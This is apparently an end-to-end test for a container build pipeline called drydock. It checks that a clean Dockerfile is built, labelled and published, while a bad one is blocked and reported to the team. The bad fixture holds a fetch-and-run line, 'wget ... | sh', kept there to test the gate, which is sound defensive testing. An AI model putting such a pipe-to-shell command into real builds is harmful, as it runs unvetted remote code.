// The push flow end to end in one process, on real parts: a git push to a bare repository, the local
// event bus over SQLite queues, the gate, buildah, podman black-box tests, the guarded docker-registry
// and the lineage store, all assembled by openLocalPipeline; the push goes through the post-receive hook
// that `drydock repo create` installs. test/e2e/drydock-start.test.ts runs the same through `drydock start`.
import { execFile, execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BuildahBuildService } from '../../adapters/local/buildah-build-service.js';
import { seedBusyboxBases } from '../../adapters/local/busybox-base-seeder.js';
import { SqliteEventLog } from '../../adapters/local/sqlite-event-log.js';
import { SqliteOutbox } from '../../adapters/local/sqlite-outbox.js';
import type { TeamNotification } from '../../core/notify/team-notification.js';
import { parsePolicy } from '../../core/policy/parse-policy.js';
import { type LocalPipeline, openLocalPipeline } from '../../runtime/local/open-local-pipeline.js';
import { runCli } from '../helpers/cli.js';

const run = promisify(execFile);
const git = (cwd: string, ...args: string[]) =>
  execFileSync('git', ['-c', 'user.name=dev', '-c', 'user.email=dev@example.com', ...args], {
    cwd,
    encoding: 'utf8',
  });

let dir: string;
let pipeline: LocalPipeline;
const notified: TeamNotification[] = [];

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'drydock-e2e-'));
  let policyText = '';
  pipeline = await openLocalPipeline({
    stateDir: dir,
    policy: async () => parsePolicy(policyText),
    onNotified: (note) => notified.push(note),
  });
  const host = pipeline.registryHost;
  policyText = `version: 1\ntrustedRegistries: ["${host}"]\nallowed:\n  - image: ${host}/base/busybox\n    tags: ["1.36*"]\n`;
}, 60_000);

afterAll(async () => {
  if (pipeline) {
    await pipeline.close();
    const env = { ...process.env, ...pipeline.containerEnv.env };
    await run('buildah', ['rm', '--all'], { env }).catch(() => undefined);
    await run('buildah', ['rmi', '--all', '--force'], { env }).catch(() => undefined);
  }
  if (dir) rmSync(dir, { recursive: true, force: true });
});

describe('push flow', () => {
  it('publishes the clean definition with its labels and lineage, and only a verdict for the failing one', async () => {
    const host = pipeline.registryHost;
    const [base] = await seedBusyboxBases({
      builder: new BuildahBuildService({ env: pipeline.containerEnv.env }),
      registryHost: host,
      versions: ['1.36.0'],
      push: (ref) => pipeline.registry.push(ref, { repository: 'base/busybox', tag: '1.36.0' }),
    });

    // A team pushes two definitions to a repository made by `drydock repo create`; its post-receive hook
    // (the bundled CLI, run by git) queues the push in the state's event log.
    const created = await runCli(['repo', 'create', 'shop', '--state', dir]);
    const remote = created.stdout.trim().split('\n').at(-1)!;
    const work = join(dir, 'work');
    git(dir, 'init', '--quiet', '--initial-branch=main', work);
    const files: Record<string, string> = {
      'hello/Dockerfile': `FROM ${host}/base/busybox:1.36.0\nCOPY greeting.txt /greeting.txt\nUSER 65534\nCMD ["cat", "/greeting.txt"]\n`,
      'hello/greeting.txt': 'hello from drydock\n',
      'hello/image-tests.yaml':
        'schemaVersion: 2.0.0\ncommandTests:\n  - name: greets\n    command: cat\n    args: ["/greeting.txt"]\n    expectedOutput: ["hello from drydock"]\nmetadataTest:\n  user: "65534"\n',
      'bad/Dockerfile': `FROM ${host}/base/busybox:1.36.0\nRUN wget -qO- http://get.example.com/i.sh | sh\n`,
    };
    for (const [path, text] of Object.entries(files)) {
      mkdirSync(join(work, path, '..'), { recursive: true });
      writeFileSync(join(work, path), text);
    }
    git(work, 'add', '.');
    git(work, 'commit', '--quiet', '-m', 'two definitions');
    git(work, 'push', '--quiet', remote, 'main');
    const after = git(work, 'rev-parse', 'HEAD').trim();
    const [logged] = await new SqliteEventLog(pipeline.db).readAfter(0);
    const push = logged!.event;
    expect(push).toMatchObject({ detailType: 'Definition Pushed', detail: { repository: 'shop', after } });

    await pipeline.drainUntilIdle();
    for (const queue of Object.values(pipeline.queues)) {
      expect(await queue.depth()).toEqual({ visible: 0, inFlight: 0, dead: 0 });
    }

    const images = await pipeline.lineage.imagesBuiltOn(base!.digest);
    expect(images).toHaveLength(1);
    const image = images[0]!.image;
    expect(image).toMatchObject({ repository: 'shop', definition: 'hello/Dockerfile', commit: after });

    // The image is in the registry, read back anonymously, with the OCI labels the issue names.
    const seen = await pipeline.registry.inspect(image.ref);
    expect(seen?.digest).toBe(image.digest);
    expect(seen?.labels).toMatchObject({
      'org.opencontainers.image.base.name': `${host}/base/busybox:1.36.0`,
      'org.opencontainers.image.base.digest': base!.digest,
      'org.opencontainers.image.revision': after,
      'org.opencontainers.image.source': 'drydock://shop/hello/Dockerfile',
    });
    // Nothing was published for the failing definition; its verdict, with the findings, went to the team.
    expect((await pipeline.registry.repositories()).filter((r) => r.includes('bad'))).toEqual([]);
    expect(notified.map((n) => [n.kind, n.repository, n.definition])).toEqual([
      ['verdict-failed', 'shop', 'bad/Dockerfile'],
    ]);
    expect(notified[0]?.summary).toMatch(/ DD110 error: /);
    // …stored in the outbox the CLI and dashboard show.
    expect((await new SqliteOutbox(pipeline.db).list()).map((n) => n.id)).toEqual([notified[0]?.id]);

    // A redelivered push changes nothing: the same event is logged once.
    await pipeline.bus.publish([push]);
    expect(await pipeline.drainUntilIdle()).toBe(0);
    // A second delivery under a new id (a webhook retried, say) is gated again, but its verdicts and build
    // requests carry the same ids, so nothing is built or published twice.
    await pipeline.bus.publish([{ ...push, id: `push-again-${after}` }]);
    expect(await pipeline.drainUntilIdle()).toBe(1);
    expect(await pipeline.lineage.imagesBuiltOn(base!.digest)).toHaveLength(1);
    expect(await pipeline.registry.tags(image.ref.slice(host.length + 1).split(':')[0]!)).toHaveLength(1);
  }, 240_000);
});
